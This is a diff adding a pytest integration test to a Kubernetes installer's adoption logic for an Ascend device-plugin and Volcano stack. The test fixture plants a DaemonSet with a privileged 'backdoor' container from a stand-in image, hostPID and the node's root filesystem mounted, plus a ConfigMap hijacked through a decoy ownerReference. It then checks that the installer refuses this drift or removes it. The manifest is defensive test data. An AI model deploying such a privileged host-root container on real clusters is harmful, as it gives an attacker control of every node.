@@ -21,13 +21,21 @@ Scenarios:
 - a running release other than the one install would run (26.1.0 tags) is refused; with
   --mindcluster-version 26.1.0 the plan adopts it (dry run); an object owned by another Helm
   release (Huawei's helm_tool.sh names its release `mindcluster` in `default`) is refused
-  with that release's name; the cluster is unchanged after each refusal.
+  with that release's name; the cluster is unchanged after each refusal;
+- a hostile plant (issue 22): the chart's own 910 device-plugin DaemonSet (so Helm could adopt it in
+  place) with an extra privileged `backdoor` container, hostPath / and hostPID, and the chart's
+  volcano-scheduler-configmap with a controller ownerReference to a decoy ConfigMap. install and
+  install --adopt refuse, naming each difference, and change nothing (resourceVersions, the metadata
+  and spec hash, no release); with --accept-drift the DaemonSet is recreated from the chart (no pod runs
+  the backdoor) and the ConfigMap loses its ownerReference: deleting the decoy makes the garbage
+  collector delete a canary it owns, and the Helm-managed ConfigMap stays.
 """
 from __future__ import annotations
 
 import hashlib
 import json
 import secrets
+import time
 from pathlib import Path
 
 import pytest
@@ -233,3 +241,110 @@ def test_adopt_refuses_another_release_and_another_version(huawei_261_stack):
     err = _refused(c, before, "--adopt")
     assert ("ConfigMap volcano-system/volcano-scheduler-configmap belongs to Helm release mindcluster in "
             "namespace default") in err
+
+
+#: labels of the chart's 910 device plugin for release ascend-stack (its selector: charts/ascend-device-plugin)
+PLUGIN_LABELS = {"app.kubernetes.io/instance": "ascend-stack", "app.kubernetes.io/name": "ascend-device-plugin",
+                 "ascend.huawei.com/family": "910"}
+PLUGIN = ("DaemonSet", "kube-system", "ascend-device-plugin-daemonset-910")
+SCHED_CM = ("ConfigMap", "volcano-system", "volcano-scheduler-configmap")
+
+
+def _planted_plugin() -> dict:
+    return {
+        "apiVersion": "apps/v1", "kind": "DaemonSet",
+        "metadata": {"name": PLUGIN[2], "namespace": PLUGIN[1]},
+        "spec": {"selector": {"matchLabels": PLUGIN_LABELS}, "template": {
+            "metadata": {"labels": PLUGIN_LABELS},
+            "spec": {
+                "nodeSelector": {"accelerator": "huawei-Ascend910"},
+                "tolerations": [{"operator": "Exists"}],
+                "hostPID": True,
+                "containers": [
+                    {"name": "device-plugin",
+                     "image": "swr.cn-south-1.myhuaweicloud.com/ascendhub/ascend-k8sdeviceplugin:v26.0.0"},
+                    {"name": "backdoor", "image": "evil.example/tools:1", "securityContext": {"privileged": True},
+                     "volumeMounts": [{"name": "host-root", "mountPath": "/host"}]}],
+                "volumes": [{"name": "host-root", "hostPath": {"path": "/"}}]}}}}
+
+
+def _owned_by(decoy: dict, name: str, data: dict) -> dict:
+    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {
+        "name": name, "namespace": SCHED_CM[1],
+        "ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": decoy["metadata"]["name"],
+                             "uid": decoy["metadata"]["uid"], "controller": True}]}, "data": data}
+
+
+@pytest.fixture
+def hostile_plant():
+    """A fresh labelled cluster with the two hostile objects of issue 22, no Helm release."""
+    c = start_cluster(f"drift-{secrets.token_hex(3)}", "--no-volcano")
+    try:
+        for args in (("label-node", "--all"), ("label-node", "mgmt-0", "--role", "master")):
+            proc = c.plugin(*args)
+            assert proc.returncode == 0, proc.stderr
+        c.kubectl("create", "namespace", SCHED_CM[1])
+        c.kubectl("create", "configmap", "-n", SCHED_CM[1], "decoy")
+        decoy = c.get_json("configmap", "-n", SCHED_CM[1], "decoy")
+        for obj in (_planted_plugin(), _owned_by(decoy, SCHED_CM[2], {"volcano-scheduler.conf": "actions: enqueue"}),
+                    _owned_by(decoy, "gc-canary", {})):
+            c.kubectl("create", "-f", "-", input=json.dumps(obj))
+        c.kubectl("rollout", "status", "-n", PLUGIN[1], f"daemonset/{PLUGIN[2]}", "--timeout=120s")
+        yield c
+    finally:
+        stop_cluster(c)
+
+
+def _versions(c: Cluster) -> dict:
+    return {k: (o["metadata"]["uid"], o["metadata"]["resourceVersion"]) for k, o in _objects(c).items()
+            if k in (PLUGIN, SCHED_CM)}
+
+
+def test_adopt_refuses_drift_and_accepted_drift_keeps_nothing_of_the_plant(hostile_plant):
+    c = hostile_plant
+    before, versions = _state(c), _versions(c)
+    assert len(versions) == 2
+    differences = ("DaemonSet kube-system/ascend-device-plugin-daemonset-910 differs from the chart",
+                   "hostPID true (chart: false)",
+                   "extra container 'backdoor' (image 'evil.example/tools:1', privileged) the chart does not have",
+                   "hostPath volume 'host-root' path '/' the chart does not have",
+                   "ConfigMap volcano-system/volcano-scheduler-configmap differs from the chart",
+                   "controller ownerReference to ConfigMap 'decoy'")
+    for args in ((), ("--adopt",), ("--adopt", "--dry-run")):
+        err = _refused(c, before, *args)
+        for d in differences:
+            assert d in err, (d, err)
+        assert "--accept-drift" in err
+        assert _versions(c) == versions, args
+
+    proc = c.plugin("install", "--adopt", "--accept-drift", "--dry-run", "-o", "json")
+    assert proc.returncode == 0, proc.stderr
+    rows = {(o["kind"], o["namespace"], o["name"]): o for o in json.loads(proc.stdout)["adoption"]["objects"]}
+    assert rows[PLUGIN]["action"] == "replace" and "extra container 'backdoor'" in rows[PLUGIN]["reason"]
+    assert rows[SCHED_CM]["action"] == "adopt" and rows[SCHED_CM]["removeOwnerReferences"] is True
+    assert rows[SCHED_CM]["drift"][0].startswith("controller ownerReference to ConfigMap 'decoy'")
+    assert _state(c) == before and _versions(c) == versions
+
+    proc = c.plugin("install", "--adopt", "--accept-drift", "--wait", "--timeout", "3m")
+    assert proc.returncode == 0, proc.stderr
+    assert "adopted ConfigMap volcano-system/volcano-scheduler-configmap (ownerReferences removed)" in proc.stdout
+    assert f"deleted DaemonSet {PLUGIN[1]}/{PLUGIN[2]} (Helm creates it again)" in proc.stdout
+    after = _objects(c)
+    ds, cm = after[PLUGIN], after[SCHED_CM]
+    assert ds["metadata"]["uid"] != versions[PLUGIN][0]
+    pod = ds["spec"]["template"]["spec"]
+    assert [x["name"] for x in pod["containers"]] == ["device-plugin"] and not pod.get("hostPID")
+    assert "/" not in [(v.get("hostPath") or {}).get("path") for v in pod["volumes"]]
+    pods = c.get_json("pods", "-n", PLUGIN[1])["items"]
+    assert [p for p in pods if p["metadata"]["name"].startswith("ascend-device-plugin")]
+    assert [p["metadata"]["name"] for p in pods if "backdoor" in {x["name"] for x in p["spec"]["containers"]}] == []
+    assert cm["metadata"]["uid"] == versions[SCHED_CM][0] and not cm["metadata"].get("ownerReferences")
+    assert cm["metadata"]["annotations"]["meta.helm.sh/release-name"] == "ascend-stack"
+
+    # the garbage collector runs here (it deletes the canary the decoy owns) and leaves the adopted ConfigMap
+    c.kubectl("delete", "configmap", "-n", SCHED_CM[1], "decoy")
+    deadline = time.monotonic() + 60
+    while c.kubectl("get", "configmap", "-n", SCHED_CM[1], "gc-canary", "--ignore-not-found", "-o", "name").stdout:
+        assert time.monotonic() < deadline, "the garbage collector did not delete gc-canary"
+        time.sleep(1)
+    assert c.get_json("configmap", "-n", SCHED_CM[1], SCHED_CM[2])["metadata"]["uid"] == versions[SCHED_CM][0]
